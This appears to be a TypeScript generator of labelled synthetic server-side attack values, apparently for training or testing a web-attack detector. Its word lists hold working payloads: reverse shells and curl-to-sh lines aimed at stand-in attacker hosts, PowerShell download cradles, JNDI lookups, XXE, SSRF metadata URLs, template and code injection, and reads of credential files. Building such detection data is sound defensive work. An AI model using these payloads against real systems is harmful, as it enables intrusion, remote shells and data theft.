import type { Random } from '../../contracts/seeded-random.ts';

/** Slots of the tricks below; an attack is a trick whose slots are filled, so that tricks meet in many ways. */
const WORDS: Readonly<Record<string, readonly string[]>> = {
  host: ['attacker.example', '192.0.2.66', 'x.attacker.example:8443', '198.51.100.9:8080'],
  secret: ['/etc/passwd', '/etc/shadow', '/etc/group', '/proc/self/environ', '/proc/version', '/var/log/nginx/access.log', '/root/.ssh/id_rsa', '/home/web/.bash_history', '/etc/mysql/my.cnf', '/etc/ssh/sshd_config', 'wp-config.php', '/var/www/html/wp-config.php', '.env', '/proc/1/cmdline', '/etc/crontab'],
  windows: ['C:\\Windows\\win.ini', 'c:/windows/system32/drivers/etc/hosts', 'C:\\boot.ini', 'c:\\inetpub\\wwwroot\\web.config', 'C:\\Windows\\repair\\sam', 'd:\\xampp\\php\\php.ini'],
  up: ['../', '..\\', '..%2f', '....//', '..%252f', '%2e%2e/', '%2e%2e%2f', '..;/', '..%c0%af', '..\\/', '.../...//', '..%5c'],
  target: ['etc/passwd', 'wp-config.php', 'windows/win.ini', 'etc/hosts%00.png', 'var/log/apache2/error.log', 'proc/self/fd/3', 'wp-content/debug.log', 'etc/shadow', 'boot.ini', 'config/database.yml'],
  file: ['file', 'page', 'path', 'template', 'doc', 'download', 'img', 'lang', 'view', 'f'],
  sep: [';', '|', '||', '&&', '\n', '; ', ' | ', ' && ', '`', '$('],
  command: ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls -la /', 'ping -c 4 192.0.2.66', 'curl http://attacker.example/x', 'wget http://192.0.2.66/m.sh -O /tmp/m', 'nslookup x.attacker.example', 'nc 192.0.2.66 4444 -e /bin/sh', 'python3 -c "import os"', 'netstat -an', 'ifconfig', 'sleep 10', 'find / -perm -4000', 'head -n 5 /etc/group', 'tail /var/log/syslog', 'env', 'ps aux', 'busybox nc 192.0.2.66 99', 'chmod +x /tmp/m', 'rm -rf /tmp/x', 'php -r "phpinfo();"', 'base64 /etc/hosts', 'tar czf /tmp/x.tgz /var/www', 'echo pwned > /tmp/x'],
  before: ['127.0.0.1', '1', 'x.jpg', '', 'shop.example', 'a@shop.example', '2026-11-20', 'lamp'],
  hidden: ["c''at /etc/hosts", 'c\\at /etc/passwd', 'cat${IFS}/etc/passwd', 'cat$IFS$9/etc/group', "w'h'oami", 'who$@ami', '/???/c?t /???/p?ss??', '{cat,/etc/hosts}', 'c""url http://attacker.example', '/bin/c?t /etc/passwd', 'una\\me${IFS}-a', "'w'ge't' http://attacker.example/x", 'cat</etc/hosts', 'ca${x}t /etc/passwd', '/usr/bin/who*mi'],
  shape: ['bash -i >& /dev/tcp/192.0.2.66/443 0>&1', 'echo aWQK|base64 -d|bash', 'curl -s http://attacker.example/i.sh | sh', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.66 9 >/tmp/f', 'perl -e \'use Socket;\'', 'python -c \'import socket\'', 'sh -c "id"', 'wget -q -O- attacker.example/x|sh'],
  dos: ['cmd.exe /c whoami', 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A', 'certutil -urlcache -split -f http://attacker.example/a.exe', '| dir C:\\', '& ipconfig /all', 'net user eve Pa55w0rd /add', 'type C:\\Windows\\win.ini', 'IEX(New-Object Net.WebClient).DownloadString("http://attacker.example")', 'mshta http://attacker.example/x.hta', '&& tasklist /v', 'reg query HKLM\\Software', 'bitsadmin /transfer x http://attacker.example/a c:\\a'],
  phpcall: ['system', 'passthru', 'shell_exec', 'exec', 'assert', 'eval', 'phpinfo', 'file_get_contents', 'readfile', 'popen', 'highlight_file', 'call_user_func'],
  arg: ["'id'", '"ls -la"', '$_GET[0]', 'base64_decode("aWQ=")', "'/etc/passwd'", 'chr(105).chr(100)', '$x'],
  php: ['<?php {phpcall}({arg}); ?>', '<?={phpcall}({arg})?>', ';{phpcall}({arg});//', "'.{phpcall}({arg}).'", '${@{phpcall}({arg})}', '"];{phpcall}({arg});//', '$a="{phpcall}";$a({arg});', '(\'sys\'.\'tem\')({arg})', '<? {phpcall}({arg});', '-d allow_url_include=1 -d auto_prepend_file=php://input', '@{phpcall}({arg})', 'data=1;{phpcall}({arg})', '$_POST[x]({arg})', '<script language="php">{phpcall}({arg})</script>'],
  otherCode: ["require('child_process').exec('id')", "process.mainModule.require('fs')", "__import__('os').system('id')", "import os;os.popen('id').read()", 'Runtime.getRuntime().exec("id")', 'new java.lang.ProcessBuilder("id").start()', "IO.popen('id').read", "Kernel.exec('id')", "@{[system 'id']}", 'java.lang.Runtime.getRuntime()', 'org.apache.commons.collections.functors.InvokerTransformer', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', "this.constructor.constructor('return process')()", "subprocess.check_output('id')", "global.process.mainModule.constructor._load('child_process')", "os.execute('id')"],
  object: ['O:8:"stdClass":1:{s:1:"a";s:1:"b";}', 'a:1:{i:0;O:11:"WP_HTML_Foo":1:{s:3:"cmd";s:2:"id";}}', 'O:+4:"Evil":0:{}', 'C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}', 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ', 'aced00057372001172', '{"@type":"com.sun.rowset.JdbcRowSetImpl","autoCommit":true}', '!!python/object/apply:os.system ["id"]', '!!javax.script.ScriptEngineManager []', '{"$type":"System.Windows.Data.ObjectDataProvider"}', 'Tzo4OiJzdGRDbGFzcyI6MTp7czoxOiJhIjtzOjE6ImIiO30', 'AAEAAAD/////AQAAAAAAAAAMAgAAAE'],
  sum: ['7*7', '8*8', '1337*2', '3-1', "7*'7'", '99/3'],
  inside: ["''.__class__.__mro__[1].__subclasses__()", 'config.items()', "request.application.__globals__", "self.__init__.__globals__", "_self.env.registerUndefinedFilterCallback('exec')", "['id']|filter('system')", "lipsum.__globals__['os'].popen('id').read()", "cycler.__init__.__globals__.os", "constructor.constructor('alert(1)')()", "x=$on.constructor('alert(1)')()", "app.request.server.all|join(',')"],
  template: ['{{{sum}}}', '${{sum}}', '#{{sum}}', '<%= {sum} %>', '{{{inside}}}', '${T(java.lang.Runtime).getRuntime().exec("id")}', '*{{sum}}', '@({sum})', '{php}echo `id`;{/php}', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', '#set($x="")#set($rt=$x.class.forName("java.lang.Runtime"))', '{% for x in [].__class__.__base__.__subclasses__() %}{% endfor %}', '<%= system("id") %>', '<%= File.open("/etc/passwd").read %>', "{{#with \"s\" as |string|}}{{/with}}", '${"freemarker.template.utility.Execute"?new()("id")}', '%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}', "${{inside}}", "{system('id')}", '__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x', '{{7*7}}[[5*5]]', '#{root.process.mainModule.require("os")}'],
  letters: ['j', '${lower:j}', '${upper:j}', '${::-j}', '${env:NaN:-j}', "${date:'j'}"],
  lookups: ['${{letters}ndi:ldap://{host}/a}', '${jndi:rmi://{host}/o}', '${{letters}n${lower:d}i:dns://{host}}', '${jndi:${lower:l}${lower:d}ap://{host}/x}', '${${::-j}${::-n}${::-d}${::-i}:ldaps://{host}/z}', '${env:AWS_SECRET_ACCESS_KEY}', '${jnd${upper:i}:iiop://{host}/a}'],
  xml: ['<!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret}">]><r>&x;</r>', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://{host}/e.dtd"> %p;]><r/>', '<!DOCTYPE r SYSTEM "http://{host}/x.dtd"><r/>', '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file://{secret}"/></r>', '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>', '<!DOCTYPE a PUBLIC "x" "http://{host}/e"><a/>', '<xsl:value-of select="document(\'{secret}\')"/>'],
  ldap: ['*)(uid=*))(|(uid=*', 'admin)(&)', '*)(objectClass=*)', 'x)(|(userPassword=*))', '*))(|(cn=*', 'admin*)((|userpassword=*)', '(&(uid=a)(|(cn=*)))', '*)(&', ')(|(mail=*'],
  xpath: ["' or count(/)=1 or 'a'='b", "'] | //* | //*['", "x' or name()='user' or 'x'='y", "' and string-length(//user[1]/password)=8 and 'a'='a", "//user[position()=1]/child::node()", "' or contains(name(),'admin') or '", "1 or substring(name(/*[1]),1,1)='a'", "' or starts-with(//pw,'a') or ''='"],
  nosql: ['{"user":{"$ne":null},"pass":{"$gt":""}}', "' || '1'=='1", "';return this.a==this.b;var x='", '{"$where":"sleep(100)"}', '{"a":{"$regex":"^adm"}}', "' || this.password.match(/.*/)//", "';while(true){};'", '{"$or":[{"a":1},{"b":{"$exists":true}}]}', "db.users.find({})"],
  break: ['%0d%0a', '\r\n', '\n', '%0a', '%E5%98%8D%E5%98%8A', '%0d%0a%20'],
  header: ['Set-Cookie: sid=1', 'Location: http://attacker.example', 'X-Injected: 1', 'Content-Length: 0\r\n\r\nHTTP/1.1 200 OK', 'Set-Cookie:admin=true', 'Access-Control-Allow-Origin: *'],
  inner: ['http://169.254.169.254/latest/meta-data/iam/', 'http://127.0.0.1:6379/', 'http://localhost:9200/_cat', 'http://[::1]:80/', 'http://2130706433/', 'http://0x7f000001/', 'http://0177.0.0.1/', 'http://metadata.google.internal/computeMetadata/v1/', 'gopher://127.0.0.1:25/_HELO', 'dict://localhost:11211/stat', 'http://10.1.2.3/admin', 'http://192.168.0.1/', 'http://shop.example@127.0.0.1/', 'http://127.1/', 'http://a.127.0.0.1.nip.io/', 'ldap://127.0.0.1:389/', 'http://[::ffff:127.0.0.1]/', 'http://[fd00:ec2::254]/latest/', 'https://172.16.9.9:8443/', 'http://0/'],
  wrapper: ['php://filter/convert.base64-encode/resource={secret}', 'php://input', 'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==', 'expect://id', 'phar://uploads/x.jpg/a', 'zip://x.zip%23s', 'file://{secret}', 'data:text/html,<?php', 'compress.zlib://{secret}', 'PHP://filter/read=string.rot13/resource=index.php'],
  polluted: ['__proto__[admin]=1', '{"__proto__":{"admin":true}}', 'constructor[prototype][x]=y', '{"constructor":{"prototype":{"a":1}}}', 'a.__proto__.b=1'],
};

export type ServerAttack = 'attack.traversal' | 'attack.lfi' | 'attack.command' | 'attack.code' | 'attack.object_injection' | 'attack.template' | 'attack.jndi' | 'attack.xxe' | 'attack.ldap' | 'attack.xpath' | 'attack.nosql' | 'attack.crlf' | 'attack.ssrf' | 'attack.prototype_pollution';

/** What a parameter holds, by class of attack. */
export const TRICKS: Readonly<Record<ServerAttack, readonly string[]>> = {
  'attack.traversal': ['{up}{up}{up}{target}', '/static/{up}{up}{target}', '{up}{up}{up}{up}{up}{target}', 'img/{up}{up}{target}', '/var/www/images/{up}{up}{target}'],
  'attack.lfi': ['{secret}', '{windows}', '{wrapper}', '{secret}%00', 'file://{secret}', '{wrapper}'],
  'attack.command': ['{before}{sep}{command}', '{before};{hidden}', '{before}|{hidden}', '{shape}', '{before};{shape}', '{dos}', '{before}`{command}`', '{before}$({command})', '{before}||{command}#', '{before}&&{command}&&', '() { :;}; {command}', '{before}{sep}{command} #', '"; {command}; "', "'; {command} #"],
  'attack.code': ['{php}', '{php}', '{otherCode}'],
  'attack.object_injection': ['{object}', 'x={object}', '"{object}"'],
  'attack.template': ['{template}', 'Hello {template}', '{before}{template}'],
  'attack.jndi': ['{lookups}', 'x{lookups}', 'Mozilla/5.0 {lookups}'],
  'attack.xxe': ['{xml}', '<?xml version="1.0"?>{xml}'],
  'attack.ldap': ['{ldap}', 'admin{ldap}'],
  'attack.xpath': ['{xpath}', 'lamp{xpath}'],
  'attack.nosql': ['{nosql}', 'admin {nosql}'],
  'attack.crlf': ['en{break}{header}', '/{break}{header}', 'x{break}{header}'],
  'attack.ssrf': ['{inner}'],
  'attack.prototype_pollution': ['{polluted}'],
};

function filled(random: Random, template: string): string {
  return template.replaceAll(/\{(\w{2,12})\}/g, (slot, name: string) => {
    const choices = Object.hasOwn(WORDS, name) ? WORDS[name] : undefined;
    return choices === undefined ? slot : filled(random, random.pick(choices));
  });
}

/** A value of a parameter that is an attack of this class. */
export function serverAttack(random: Random, attack: ServerAttack): string {
  const value = filled(random, random.pick(TRICKS[attack]));
  return random.chance(0.15) ? value.replaceAll(/[a-z]/g, (c) => (/^attack\.(?:jndi|lfi)$/.test(attack) && random.chance(0.3) ? c.toUpperCase() : c)) : value;
}

/** Classes that a value of this class may also be told as: the tricks overlap. */
export const ALSO: Readonly<Record<ServerAttack, readonly string[]>> = {
  'attack.traversal': ['attack.lfi'], 'attack.lfi': ['attack.traversal'], 'attack.command': ['attack.code'], 'attack.code': ['attack.command', 'attack.template', 'attack.lfi', 'attack.web_shell'],
  'attack.object_injection': [], 'attack.template': ['attack.code'], 'attack.jndi': [], 'attack.xxe': ['attack.lfi'], 'attack.ldap': [], 'attack.xpath': ['attack.sqli'], 'attack.nosql': ['attack.sqli', 'attack.code'], 'attack.crlf': [], 'attack.ssrf': ['attack.lfi'], 'attack.prototype_pollution': [],
};
